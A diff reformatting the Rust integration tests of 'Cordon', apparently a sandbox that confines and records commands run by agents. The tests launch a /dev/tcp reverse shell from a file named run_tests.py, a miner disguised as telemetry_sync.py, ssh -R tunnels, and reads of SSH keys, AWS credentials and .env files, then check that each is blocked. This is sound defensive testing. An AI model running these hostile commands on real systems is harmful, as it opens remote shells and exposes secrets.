@@ -26,7 +26,12 @@ struct Lab {
 }
 
 fn sh(args: &[&str]) -> bool {
-    Command::new(args[0]).args(&args[1..]).stdout(Stdio::null()).stderr(Stdio::null()).status().is_ok_and(|s| s.success())
+    Command::new(args[0])
+        .args(&args[1..])
+        .stdout(Stdio::null())
+        .stderr(Stdio::null())
+        .status()
+        .is_ok_and(|s| s.success())
 }
 
 /// A TCP server in Python that logs every connection and what it received,
@@ -116,17 +121,28 @@ impl Lab {
             lab: format!("cdlab{id}"),
             out: format!("cdout{id}"),
             // Not under /tmp: the sandbox gives the command a private /tmp.
-            dir: tempfile::Builder::new().prefix("cordon-run-").tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap(),
+            dir: tempfile::Builder::new()
+                .prefix("cordon-run-")
+                .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
+                .unwrap(),
             children: Vec::new(),
         };
         let (va, vb) = (format!("cva{id}"), format!("cvb{id}"));
         let ok = sh(&["ip", "netns", "add", &lab.lab])
             && sh(&["ip", "netns", "add", &lab.out])
-            && sh(&["ip", "link", "add", &va, "type", "veth", "peer", "name", &vb])
+            && sh(&[
+                "ip", "link", "add", &va, "type", "veth", "peer", "name", &vb,
+            ])
             && sh(&["ip", "link", "set", &va, "netns", &lab.lab])
             && sh(&["ip", "link", "set", &vb, "netns", &lab.out])
-            && lab.ip(&lab.lab, &["addr", "add", &format!("{LAB_IP}/24"), "dev", &va])
-            && lab.ip(&lab.out, &["addr", "add", &format!("{OUT_IP}/24"), "dev", &vb])
+            && lab.ip(
+                &lab.lab,
+                &["addr", "add", &format!("{LAB_IP}/24"), "dev", &va],
+            )
+            && lab.ip(
+                &lab.out,
+                &["addr", "add", &format!("{OUT_IP}/24"), "dev", &vb],
+            )
             && lab.ip(&lab.lab, &["link", "set", &va, "up"])
             && lab.ip(&lab.out, &["link", "set", &vb, "up"])
             && lab.ip(&lab.lab, &["link", "set", "lo", "up"])
@@ -171,7 +187,12 @@ impl Lab {
         let script = self.write("server.py", SERVER);
         let log = self.path(&format!("server-{port}.log"));
         std::fs::write(&log, "").unwrap();
-        let (ns, s, l, p) = (ns.to_string(), script.display().to_string(), log.display().to_string(), port.to_string());
+        let (ns, s, l, p) = (
+            ns.to_string(),
+            script.display().to_string(),
+            log.display().to_string(),
+            port.to_string(),
+        );
         self.spawn_in(&ns, &["python3", &s, ip, &p, &l]);
         self.wait_port(&ns, ip, port);
         log
@@ -182,7 +203,19 @@ impl Lab {
         std::fs::create_dir_all(&www).unwrap();
         std::fs::write(www.join("index.txt"), "hello-from-outside\n").unwrap();
         let (out, w) = (self.out.clone(), www.display().to_string());
-        self.spawn_in(&out, &["python3", "-m", "http.server", "8000", "--bind", OUT_IP, "--directory", &w]);
+        self.spawn_in(
+            &out,
+            &[
+                "python3",
+                "-m",
+                "http.server",
+                "8000",
+                "--bind",
+                OUT_IP,
+                "--directory",
+                &w,
+            ],
+        );
         self.wait_port(&out, OUT_IP, 8000);
     }
 
@@ -193,16 +226,46 @@ impl Lab {
             return None;
         }
         let key = self.path("hostkey");
-        if !sh(&["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key.to_str().unwrap()]) {
+        if !sh(&[
+            "ssh-keygen",
+            "-q",
+            "-t",
+            "ed25519",
+            "-N",
+            "",
+            "-f",
+            key.to_str().unwrap(),
+        ]) {
             return None;
         }
         let _ = std::fs::create_dir_all("/run/sshd");
         let log = self.path("sshd.log");
         std::fs::write(&log, "").unwrap();
-        let (out, k, l) = (self.out.clone(), format!("HostKey={}", key.display()), log.display().to_string());
+        let (out, k, l) = (
+            self.out.clone(),
+            format!("HostKey={}", key.display()),
+            log.display().to_string(),
+        );
         self.spawn_in(
             &out,
-            &["/usr/sbin/sshd", "-D", "-f", "/dev/null", "-E", &l, "-o", &k, "-o", &format!("ListenAddress={OUT_IP}"), "-o", "LogLevel=VERBOSE", "-o", "PidFile=none", "-o", "UsePAM=no"],
+            &[
+                "/usr/sbin/sshd",
+                "-D",
+                "-f",
+                "/dev/null",
+                "-E",
+                &l,
+                "-o",
+                &k,
+                "-o",
+                &format!("ListenAddress={OUT_IP}"),
+                "-o",
+                "LogLevel=VERBOSE",
+                "-o",
+                "PidFile=none",
+                "-o",
+                "UsePAM=no",
+            ],
         );
         self.wait_port(&out, OUT_IP, 22);
         Some(log)
@@ -211,7 +274,10 @@ impl Lab {
     /// Wait until something listens, without connecting (servers log every connection).
     fn wait_port(&self, ns: &str, ip: &str, port: u16) {
         let probe = format!("for i in $(seq 200); do ss -Hltn 'sport = :{port}' | grep -q . && exit 0; sleep 0.05; done; exit 1");
-        assert!(sh(&["ip", "netns", "exec", ns, "bash", "-c", &probe]), "server on {ip}:{port} did not come up");
+        assert!(
+            sh(&["ip", "netns", "exec", ns, "bash", "-c", &probe]),
+            "server on {ip}:{port} did not come up"
+        );
     }
 
     /// `cordon run ARGS` in the lab namespace, from the lab's directory (the workspace).
@@ -221,11 +287,27 @@ impl Lab {
 
     fn cordon_with(&self, args: &[&str], f: impl FnOnce(&mut Command)) -> Output {
         let mut c = Command::new("timeout");
-        c.args(["120", "ip", "netns", "exec", &self.lab, env!("CARGO_BIN_EXE_cordon"), "run"]).args(args).current_dir(self.dir.path());
+        c.args([
+            "120",
+            "ip",
+            "netns",
+            "exec",
+            &self.lab,
+            env!("CARGO_BIN_EXE_cordon"),
+            "run",
+        ])
+        .args(args)
+        .current_dir(self.dir.path());
         c.stdin(Stdio::null());
         f(&mut c);
         let out = c.output().unwrap();
-        eprintln!("--- cordon run {:?}: {:?}\nstdout: {}\nstderr: {}", args, out.status, String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
+        eprintln!(
+            "--- cordon run {:?}: {:?}\nstdout: {}\nstderr: {}",
+            args,
+            out.status,
+            String::from_utf8_lossy(&out.stdout),
+            String::from_utf8_lossy(&out.stderr)
+        );
         out
     }
 
@@ -254,7 +336,12 @@ impl Drop for Lab {
 fn findings(recs: &[Value]) -> Vec<(String, String)> {
     recs.iter()
         .filter(|r| r["kind"] == "finding")
-        .map(|r| (r["detail"]["kind"].as_str().unwrap_or("").to_string(), r["detail"]["rule"].as_str().unwrap_or("").to_string()))
+        .map(|r| {
+            (
+                r["detail"]["kind"].as_str().unwrap_or("").to_string(),
+                r["detail"]["rule"].as_str().unwrap_or("").to_string(),
+            )
+        })
         .collect()
 }
 
@@ -279,27 +366,67 @@ fn allowed_fetch_works_through_the_proxy_and_exit_status_passes_through() {
     let script = "curl -sS http://fake.test:8000/index.txt && curl -sS -x socks5h://127.0.0.1:1080 http://fake.test:8000/index.txt && \
                   python3 -c 'import urllib.request; print(urllib.request.urlopen(\"http://fake.test:8000/index.txt\").read().decode().strip(), \"via urllib\")' && \
                   getent hosts fake.test; getent hosts evil.example || echo nxdomain; echo to-stderr >&2; exit 7";
-    let out = lab.cordon(&["--policy", "policy.toml", "--episode", "ep-1", "--call", "call-1", "--record", "rec.jsonl", "--", "bash", "-c", script]);
+    let out = lab.cordon(&[
+        "--policy",
+        "policy.toml",
+        "--episode",
+        "ep-1",
+        "--call",
+        "call-1",
+        "--record",
+        "rec.jsonl",
+        "--",
+        "bash",
+        "-c",
+        script,
+    ]);
     assert_eq!(out.status.code(), Some(7), "exit status passes through");
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert_eq!(stdout.matches("hello-from-outside").count(), 3, "{stdout}");
     assert!(stdout.contains("via urllib"));
-    assert!(stdout.contains("10.231.7.2      fake.test") || stdout.contains("10.231.7.2 fake.test"), "DNS answered by Cordon: {stdout}");
+    assert!(
+        stdout.contains("10.231.7.2      fake.test") || stdout.contains("10.231.7.2 fake.test"),
+        "DNS answered by Cordon: {stdout}"
+    );
     assert!(stdout.contains("nxdomain"));
     assert!(String::from_utf8_lossy(&out.stderr).contains("to-stderr"));
-    assert!(!String::from_utf8_lossy(&out.stderr).contains("cordon:"), "nothing found, nothing said");
+    assert!(
+        !String::from_utf8_lossy(&out.stderr).contains("cordon:"),
+        "nothing found, nothing said"
+    );
     let recs = lab.records("rec.jsonl");
-    assert!(recs.iter().all(|r| r["source"] == "sandbox" && r["session"] == "ep-1" && r["call_id"] == "call-1"));
-    let allowed: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "connect" && r["action"] == "allowed").collect();
+    assert!(recs
+        .iter()
+        .all(|r| r["source"] == "sandbox" && r["session"] == "ep-1" && r["call_id"] == "call-1"));
+    let allowed: Vec<&Value> = recs
+        .iter()
+        .filter(|r| r["kind"] == "connect" && r["action"] == "allowed")
+        .collect();
     assert!(allowed.len() >= 3, "{allowed:?}");
-    assert!(allowed.iter().all(|r| r["dst"] == OUT_IP && r["dport"] == 8000 && r["bytes_in"].as_u64().unwrap() > 0));
+    assert!(allowed
+        .iter()
+        .all(|r| r["dst"] == OUT_IP && r["dport"] == 8000 && r["bytes_in"].as_u64().unwrap() > 0));
     assert!(allowed.iter().any(|r| r["detail"]["via"] == "socks5"));
-    assert!(recs.iter().any(|r| r["kind"] == "dns" && r["detail"]["query"] == "fake.test" && r["action"] == "allowed"));
-    assert!(recs.iter().any(|r| r["kind"] == "dns" && r["detail"]["query"] == "evil.example" && r["detail"]["rcode"] == "NXDOMAIN"));
-    let execs: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "process" && r["detail"]["event"] == "exec").collect();
-    assert!(execs.iter().any(|r| r["detail"]["argv"][0] == "curl"), "execs recorded");
-    assert!(execs.iter().all(|r| r["detail"]["pid"].is_u64() && r["detail"]["ppid"].is_u64()));
-    assert!(recs.iter().any(|r| r["kind"] == "process" && r["detail"]["event"] == "exit" && r["detail"]["exit_code"] == 7));
+    assert!(recs.iter().any(|r| r["kind"] == "dns"
+        && r["detail"]["query"] == "fake.test"
+        && r["action"] == "allowed"));
+    assert!(recs.iter().any(|r| r["kind"] == "dns"
+        && r["detail"]["query"] == "evil.example"
+        && r["detail"]["rcode"] == "NXDOMAIN"));
+    let execs: Vec<&Value> = recs
+        .iter()
+        .filter(|r| r["kind"] == "process" && r["detail"]["event"] == "exec")
+        .collect();
+    assert!(
+        execs.iter().any(|r| r["detail"]["argv"][0] == "curl"),
+        "execs recorded"
+    );
+    assert!(execs
+        .iter()
+        .all(|r| r["detail"]["pid"].is_u64() && r["detail"]["ppid"].is_u64()));
+    assert!(recs.iter().any(|r| r["kind"] == "process"
+        && r["detail"]["event"] == "exit"
+        && r["detail"]["exit_code"] == 7));
     assert!(findings(&recs).is_empty(), "{:?}", findings(&recs));
 }
 
@@ -313,31 +440,90 @@ fn tunnel_miner_reverse_shell_and_scan_started_from_python_are_refused_and_recor
     lab.write("run_tests.py", RUN_TESTS);
     lab.write("telemetry_sync.py", MINER);
     // Monitor mode: every step runs, so every one is seen.
-    let out = lab.cordon(&["--policy", "policy.toml", "--mode", "monitor", "--record", "rec.jsonl", "--", "python3", "run_tests.py", OUT_IP]);
+    let out = lab.cordon(&[
+        "--policy",
+        "policy.toml",
+        "--mode",
+        "monitor",
+        "--record",
+        "rec.jsonl",
+        "--",
+        "python3",
+        "run_tests.py",
+        OUT_IP,
+    ]);
     assert_eq!(out.status.code(), Some(0));
     assert!(String::from_utf8_lossy(&out.stdout).contains("run_tests done"));
     let recs = lab.records("rec.jsonl");
     let f = findings(&recs);
-    assert!(has_finding(&recs, "CRYPTO_MINING", "sandbox.stratum"), "miner through the proxy: {f:?}");
+    assert!(
+        has_finding(&recs, "CRYPTO_MINING", "sandbox.stratum"),
+        "miner through the proxy: {f:?}"
+    );
     // The finding names the process behind the proxied connection, whatever it is called.
-    let mining = recs.iter().find(|r| r["kind"] == "finding" && r["detail"]["kind"] == "CRYPTO_MINING").unwrap();
-    assert!(mining["detail"]["cmd"].as_str().unwrap_or("").contains("telemetry_sync.py proxy"), "{mining}");
+    let mining = recs
+        .iter()
+        .find(|r| r["kind"] == "finding" && r["detail"]["kind"] == "CRYPTO_MINING")
+        .unwrap();
+    assert!(
+        mining["detail"]["cmd"]
+            .as_str()
+            .unwrap_or("")
+            .contains("telemetry_sync.py proxy"),
+        "{mining}"
+    );
     assert!(mining["detail"]["pid"].is_u64());
-    assert!(has_finding(&recs, "REVERSE_TUNNEL", "sandbox.tunnel-direct-connect"), "ssh -R ignoring the proxy: {f:?}");
-    assert!(has_finding(&recs, "REVERSE_TUNNEL", "sandbox.tunnel-protocol"), "ssh -R through the proxy: {f:?}");
-    assert!(has_finding(&recs, "REVERSE_SHELL", "sandbox.shell-direct-connect"), "/dev/tcp: {f:?}");
-    assert!(has_finding(&recs, "NETWORK_RECON", "sandbox.scan"), "scan: {f:?}");
-    assert!(has_finding(&recs, "PROXY_BYPASS", "sandbox.direct-connect"), "direct miner: {f:?}");
+    assert!(
+        has_finding(&recs, "REVERSE_TUNNEL", "sandbox.tunnel-direct-connect"),
+        "ssh -R ignoring the proxy: {f:?}"
+    );
+    assert!(
+        has_finding(&recs, "REVERSE_TUNNEL", "sandbox.tunnel-protocol"),
+        "ssh -R through the proxy: {f:?}"
+    );
+    assert!(
+        has_finding(&recs, "REVERSE_SHELL", "sandbox.shell-direct-connect"),
+        "/dev/tcp: {f:?}"
+    );
+    assert!(
+        has_finding(&recs, "NETWORK_RECON", "sandbox.scan"),
+        "scan: {f:?}"
+    );
+    assert!(
+        has_finding(&recs, "PROXY_BYPASS", "sandbox.direct-connect"),
+        "direct miner: {f:?}"
+    );
     // Every attempt toward the outside was refused and recorded...
-    let to_out: Vec<&Value> = recs.iter().filter(|r| r["kind"] == "connect" && r["dst"] == OUT_IP).collect();
-    assert!(to_out.iter().all(|r| r["action"] == "blocked"), "{to_out:?}");
+    let to_out: Vec<&Value> = recs
+        .iter()
+        .filter(|r| r["kind"] == "connect" && r["dst"] == OUT_IP)
+        .collect();
+    assert!(
+        to_out.iter().all(|r| r["action"] == "blocked"),
+        "{to_out:?}"
+    );
     for port in [3333, 22, 4444] {
-        assert!(to_out.iter().any(|r| r["dport"] == port), "attempt on port {port} recorded");
+        assert!(
+            to_out.iter().any(|r| r["dport"] == port),
+            "attempt on port {port} recorded"
+        );
     }
-    assert!(recs.iter().any(|r| r["kind"] == "process" && r["detail"]["argv"][0] == "ssh"), "indirect execs recorded");
+    assert!(
+        recs.iter()
+            .any(|r| r["kind"] == "process" && r["detail"]["argv"][0] == "ssh"),
+        "indirect execs recorded"
+    );
     // ...and nothing reached the outside host.
-    assert_eq!(std::fs::read_to_string(&pool).unwrap(), "", "the pool saw nothing");
-    assert_eq!(std::fs::read_to_string(&shell).unwrap(), "", "the reverse shell listener saw nothing");
+    assert_eq!(
+        std::fs::read_to_string(&pool).unwrap(),
+        "",
+        "the pool saw nothing"
+    );
+    assert_eq!(
+        std::fs::read_to_string(&shell).unwrap(),
+        "",
+        "the reverse shell listener saw nothing"
+    );
     if let Some(log) = sshd {
         let l = std::fs::read_to_string(log).unwrap();
         assert!(!l.contains("Connection from"), "sshd saw a connection: {l}");
@@ -349,29 +535,70 @@ fn block_mode_kills_the_tree_on_stratum_to_an_allowed_host_and_monitor_mode_does
     let Some(mut lab) = Lab::new() else { return };
     let pool = lab.tcp_server(&lab.out.clone(), OUT_IP, 3333);
     // The pool sits on an allowed host and port: only the protocol gives it away.
-    lab.write("policy.toml", &POLICY.replace("ports = [8000]", "ports = [8000, 3333]"));
+    lab.write(
+        "policy.toml",
+        &POLICY.replace("ports = [8000]", "ports = [8000, 3333]"),
+    );
     lab.write("telemetry_sync.py", MINER);
     let script = "sleep 60 & python3 telemetry_sync.py proxy pool.test 3333; echo after-miner";
     let started = Instant::now();
-    let out = lab.cordon(&["--policy", "policy.toml", "--record", "block.jsonl", "--", "bash", "-c", script]);
+    let out = lab.cordon(&[
+        "--policy",
+        "policy.toml",
+        "--record",
+        "block.jsonl",
+        "--",
+        "bash",
+        "-c",
+        script,
+    ]);
     assert_eq!(out.status.code(), Some(137), "killed");
-    assert!(started.elapsed() < Duration::from_secs(30), "the background sleep died with the tree");
+    assert!(
+        started.elapsed() < Duration::from_secs(30),
+        "the background sleep died with the tree"
+    );
     assert!(!String::from_utf8_lossy(&out.stdout).contains("after-miner"));
     let stderr = String::from_utf8_lossy(&out.stderr);
-    assert!(stderr.contains("cordon: CRYPTO_MINING") && stderr.contains("killed"), "{stderr}");
+    assert!(
+        stderr.contains("cordon: CRYPTO_MINING") && stderr.contains("killed"),
+        "{stderr}"
+    );
     let recs = lab.records("block.jsonl");
-    assert!(recs.iter().any(|r| r["kind"] == "finding" && r["action"] == "blocked" && r["detail"]["kind"] == "CRYPTO_MINING"));
+    assert!(recs.iter().any(|r| r["kind"] == "finding"
+        && r["action"] == "blocked"
+        && r["detail"]["kind"] == "CRYPTO_MINING"));
     // The proxy had connected (the host is allowed), but the subscribe was cut before it was forwarded.
-    assert!(!std::fs::read_to_string(&pool).unwrap().contains("mining"), "the pool never saw a stratum message");
+    assert!(
+        !std::fs::read_to_string(&pool).unwrap().contains("mining"),
+        "the pool never saw a stratum message"
+    );
 
-    let out = lab.cordon(&["--policy", "policy.toml", "--mode", "monitor", "--record", "monitor.jsonl", "--", "bash", "-c", "python3 telemetry_sync.py proxy pool.test 3333; echo after-miner"]);
+    let out = lab.cordon(&[
+        "--policy",
+        "policy.toml",
+        "--mode",
+        "monitor",
+        "--record",
+        "monitor.jsonl",
+        "--",
+        "bash",
+        "-c",
+        "python3 telemetry_sync.py proxy pool.test 3333; echo after-miner",
+    ]);
     assert_eq!(out.status.code(), Some(0));
     let stdout = String::from_utf8_lossy(&out.stdout);
-    assert!(stdout.contains("pool said") && stdout.contains("after-miner"), "{stdout}");
+    assert!(
+        stdout.contains("pool said") && stdout.contains("after-miner"),
+        "{stdout}"
+    );
     assert!(String::from_utf8_lossy(&out.stderr).contains("cordon: CRYPTO_MINING"));
     let recs = lab.records("monitor.jsonl");
-    assert!(recs.iter().any(|r| r["kind"] == "finding" && r["action"] == "alert" && r["detail"]["kind"] == "CRYPTO_MINING"));
-    assert!(std::fs::read_to_string(&pool).unwrap().contains("mining.subscribe"));
+    assert!(recs.iter().any(|r| r["kind"] == "finding"
+        && r["action"] == "alert"
+        && r["detail"]["kind"] == "CRYPTO_MINING"));
+    assert!(std::fs::read_to_string(&pool)
+        .unwrap()
+        .contains("mining.subscribe"));
 }
 
 #[test]
@@ -380,10 +607,22 @@ fn block_mode_stops_an_indirect_reverse_shell() {
     let shell = lab.tcp_server(&lab.out.clone(), OUT_IP, 4444);
     lab.write("policy.toml", POLICY);
     lab.write("run_tests.py", &format!("import subprocess\nsubprocess.run(['bash', '-c', 'exec 3<>/dev/tcp/{OUT_IP}/4444; bash -i <&3 >&3 2>&3'])\nimport time; time.sleep(30)\nprint('survived')\n"));
-    let out = lab.cordon(&["--policy", "policy.toml", "--record", "rec.jsonl", "--", "python3", "run_tests.py"]);
+    let out = lab.cordon(&[
+        "--policy",
+        "policy.toml",
+        "--record",
+        "rec.jsonl",
+        "--",
+        "python3",
+        "run_tests.py",
+    ]);
     assert_eq!(out.status.code(), Some(137));
     assert!(!String::from_utf8_lossy(&out.stdout).contains("survived"));
-    assert!(has_finding(&lab.records("rec.jsonl"), "REVERSE_SHELL", "sandbox.shell-direct-connect"));
+    assert!(has_finding(
+        &lab.records("rec.jsonl"),
+        "REVERSE_SHELL",
+        "sandbox.shell-direct-connect"
+    ));
     assert_eq!(std::fs::read_to_string(&shell).unwrap(), "");
 }
 
@@ -396,11 +635,29 @@ fn nothing_reaches_the_lab_namespace_loopback() {
                   curl -sS -m 3 --noproxy '' -x http://127.0.0.1:3128 http://localhost:9999/ ; curl -sS -m 3 --noproxy '' -x socks5h://127.0.0.1:1080 http://127.0.0.1:9999/ ; \
                   (exec 3<>/dev/tcp/127.0.0.1/9999) ; (exec 3<>/dev/tcp/10.231.7.1/9999) ; \
                   python3 -c 'import socket; socket.create_connection((\"127.0.0.1\", 9999), timeout=2)' ; exit 0";
-    let out = lab.cordon(&["--mode", "monitor", "--record", "rec.jsonl", "--", "bash", "-c", script]);
+    let out = lab.cordon(&[
+        "--mode",
+        "monitor",
+        "--record",
+        "rec.jsonl",
+        "--",
+        "bash",
+        "-c",
+        script,
+    ]);
     assert_eq!(out.status.code(), Some(0));
-    assert_eq!(std::fs::read_to_string(&log).unwrap(), "", "the lab's loopback server saw nothing");
+    assert_eq!(
+        std::fs::read_to_string(&log).unwrap(),
+        "",
+        "the lab's loopback server saw nothing"
+    );
     let recs = lab.records("rec.jsonl");
-    assert!(recs.iter().any(|r| r["kind"] == "connect" && r["dport"] == 9999 && r["detail"]["code"] == "internal"), "proxy refusal recorded");
+    assert!(
+        recs.iter().any(|r| r["kind"] == "connect"
+            && r["dport"] == 9999
+            && r["detail"]["code"] == "internal"),
+        "proxy refusal recorded"
+    );
 }
 
 #[test]
@@ -421,14 +678,35 @@ fn landlock_and_mounts_hide_secrets_and_keep_writes_in_the_workspace() {
     let script = "cat ~/.ssh/id_ed25519; cat ~/.aws/credentials; cat ~/extra-secret; cat ../.env; cat ~/notes.txt; echo; \
                   echo w > written-in-workspace && echo ws-ok; echo x > ~/outside && echo home-write-ok; echo x > /etc/cordon-run-test && echo etc-write-ok; \
                   echo t > /tmp/in-tmp && echo tmp-ok; cat /tmp/cordon-run-test-host-tmp; exit 0";
-    let out = lab.cordon_with(&["--policy", "../policy.toml", "--workspace", ".", "--", "bash", "-c", script], |c| {
-        c.current_dir(&ws).env("HOME", &home);
-    });
+    let out = lab.cordon_with(
+        &[
+            "--policy",
+            "../policy.toml",
+            "--workspace",
+            ".",
+            "--",
+            "bash",
+            "-c",
+            script,
+        ],
+        |c| {
+            c.current_dir(&ws).env("HOME", &home);
+        },
+    );
     let stdout = String::from_utf8_lossy(&out.stdout);
     assert!(!stdout.contains("SECRET"), "secrets hidden: {stdout}");
-    assert!(stdout.contains("readable"), "the rest of home is readable: {stdout}");
-    assert!(stdout.contains("ws-ok") && stdout.contains("tmp-ok"), "{stdout}");
-    assert!(!stdout.contains("home-write-ok") && !stdout.contains("etc-write-ok"), "{stdout}");
+    assert!(
+        stdout.contains("readable"),
+        "the rest of home is readable: {stdout}"
+    );
+    assert!(
+        stdout.contains("ws-ok") && stdout.contains("tmp-ok"),
+        "{stdout}"
+    );
+    assert!(
+        !stdout.contains("home-write-ok") && !stdout.contains("etc-write-ok"),
+        "{stdout}"
+    );
     assert!(!stdout.contains("host tmp"), "/tmp is private: {stdout}");
     assert!(ws.join("written-in-workspace").exists());
     assert!(!Path::new("/etc/cordon-run-test").exists() && !home.join("outside").exists());
@@ -456,7 +734,13 @@ print("pid", os.getpid())
     lab.write("sc.py", py);
     let out = lab.cordon(&["--", "python3", "sc.py"]);
     let stdout = String::from_utf8_lossy(&out.stdout);
-    for what in ["ptrace -1", "unshare-net -1", "mount -1", "raw Operation not permitted", "packet Operation not permitted"] {
+    for what in [
+        "ptrace -1",
+        "unshare-net -1",
+        "mount -1",
+        "raw Operation not permitted",
+        "packet Operation not permitted",
+    ] {
         assert!(stdout.contains(what), "{what}: {stdout}");
     }
     assert!(!stdout.contains(" ok"), "{stdout}");
@@ -466,26 +750,47 @@ print("pid", os.getpid())
 fn stdin_signals_and_the_store_pass_through() {
     let Some(lab) = Lab::new() else { return };
     let out = lab.cordon_with(&["--", "tr", "a-z", "A-Z"], |c| {
-        c.stdin(std::fs::File::open({
-            std::fs::write(lab.path("in.txt"), "piped input\n").unwrap();
-            lab.path("in.txt")
-        }).unwrap());
+        c.stdin(
+            std::fs::File::open({
+                std::fs::write(lab.path("in.txt"), "piped input\n").unwrap();
+                lab.path("in.txt")
+            })
+            .unwrap(),
+        );
     });
     assert_eq!(String::from_utf8_lossy(&out.stdout), "PIPED INPUT\n");
     assert_eq!(out.status.code(), Some(0));
     // Death by a signal is passed on as one.
     let out = lab.cordon(&["--", "bash", "-c", "kill -TERM $$"]);
     use std::os::unix::process::ExitStatusExt;
-    assert!(out.status.signal() == Some(15) || out.status.code() == Some(128 + 15), "{:?}", out.status);
+    assert!(
+        out.status.signal() == Some(15) || out.status.code() == Some(128 + 15),
+        "{:?}",
+        out.status
+    );
     let out = lab.cordon(&["--", "no-such-command-anywhere"]);
     assert_eq!(out.status.code(), Some(127));
     // Records in the episode store.
     let db = lab.path("episodes.db");
-    let out = lab.cordon(&["--store", db.to_str().unwrap(), "--episode", "ep-9", "--call", "c-3", "--", "true"]);
+    let out = lab.cordon(&[
+        "--store",
+        db.to_str().unwrap(),
+        "--episode",
+        "ep-9",
+        "--call",
+        "c-3",
+        "--",
+        "true",
+    ]);
     assert_eq!(out.status.code(), Some(0));
     let store = cordon_store::Store::open_existing(&db).unwrap();
     let recs = store.net_events(None, None).unwrap();
-    assert!(recs.iter().any(|r| r.kind == "process" && r.session.as_deref() == Some("ep-9") && r.call_id.as_deref() == Some("c-3")), "{recs:?}");
+    assert!(
+        recs.iter().any(|r| r.kind == "process"
+            && r.session.as_deref() == Some("ep-9")
+            && r.call_id.as_deref() == Some("c-3")),
+        "{recs:?}"
+    );
 }
 
 #[test]
@@ -493,11 +798,25 @@ fn a_bad_sandbox_policy_names_its_line() {
     let dir = tempfile::tempdir().unwrap();
     let p = dir.path().join("p.toml");
     std::fs::write(&p, "[sandbox]\nports = [8000]\nallow = [\"10.0.0.0/99\"]\n").unwrap();
-    let out = Command::new(env!("CARGO_BIN_EXE_cordon")).args(["run", "--policy", p.to_str().unwrap(), "--", "true"]).output().unwrap();
+    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
+        .args(["run", "--policy", p.to_str().unwrap(), "--", "true"])
+        .output()
+        .unwrap();
     assert_eq!(out.status.code(), Some(125));
-    assert!(String::from_utf8_lossy(&out.stderr).contains("line 3"), "{}", String::from_utf8_lossy(&out.stderr));
-    let out = Command::new(env!("CARGO_BIN_EXE_cordon")).args(["policy", "check", p.to_str().unwrap()]).output().unwrap();
-    assert!(String::from_utf8_lossy(&out.stderr).contains(":3:"), "{}", String::from_utf8_lossy(&out.stderr));
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains("line 3"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let out = Command::new(env!("CARGO_BIN_EXE_cordon"))
+        .args(["policy", "check", p.to_str().unwrap()])
+        .output()
+        .unwrap();
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains(":3:"),
+        "{}",
+        String::from_utf8_lossy(&out.stderr)
+    );
 }
 
 #[test]
@@ -508,14 +827,27 @@ fn without_namespaces_the_policy_decides_refuse_or_degrade() {
         return;
     }
     use std::os::unix::fs::PermissionsExt;
-    let dir = tempfile::Builder::new().prefix("cordon-np-").tempdir_in("/var/tmp").unwrap();
+    let dir = tempfile::Builder::new()
+        .prefix("cordon-np-")
+        .tempdir_in("/var/tmp")
+        .unwrap();
     std::fs::set_permissions(dir.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
     let bin = dir.path().join("cordon");
     std::fs::copy(env!("CARGO_BIN_EXE_cordon"), &bin).unwrap();
-    std::fs::write(dir.path().join("degrade.toml"), "[sandbox]\non_missing = \"degrade\"\n").unwrap();
+    std::fs::write(
+        dir.path().join("degrade.toml"),
+        "[sandbox]\non_missing = \"degrade\"\n",
+    )
+    .unwrap();
     let as_nobody = |args: &[&str]| {
         Command::new("setpriv")
-            .args(["--reuid=65534", "--regid=65534", "--clear-groups", bin.to_str().unwrap(), "run"])
+            .args([
+                "--reuid=65534",
+                "--regid=65534",
+                "--clear-groups",
+                bin.to_str().unwrap(),
+                "run",
+            ])
             .args(args)
             .current_dir(dir.path())
             .env("HOME", dir.path())
@@ -525,11 +857,26 @@ fn without_namespaces_the_policy_decides_refuse_or_degrade() {
     let out = as_nobody(&["--", "true"]);
     assert_eq!(out.status.code(), Some(125));
     let err = String::from_utf8_lossy(&out.stderr);
-    assert!(err.contains("namespaces") && err.contains("refusing"), "{err}");
-    let out = as_nobody(&["--policy", "degrade.toml", "--record", "r.jsonl", "--", "bash", "-c", "echo x > /var/tmp/cordon-np-outside; exit 4"]);
+    assert!(
+        err.contains("namespaces") && err.contains("refusing"),
+        "{err}"
+    );
+    let out = as_nobody(&[
+        "--policy",
+        "degrade.toml",
+        "--record",
+        "r.jsonl",
+        "--",
+        "bash",
+        "-c",
+        "echo x > /var/tmp/cordon-np-outside; exit 4",
+    ]);
     assert_eq!(out.status.code(), Some(4));
     assert!(String::from_utf8_lossy(&out.stderr).contains("running degraded"));
-    assert!(!Path::new("/var/tmp/cordon-np-outside").exists(), "Landlock still applies");
+    assert!(
+        !Path::new("/var/tmp/cordon-np-outside").exists(),
+        "Landlock still applies"
+    );
     let recs = std::fs::read_to_string(dir.path().join("r.jsonl")).unwrap();
     assert!(recs.contains("\"degraded\":[\"namespaces"), "{recs}");
 }
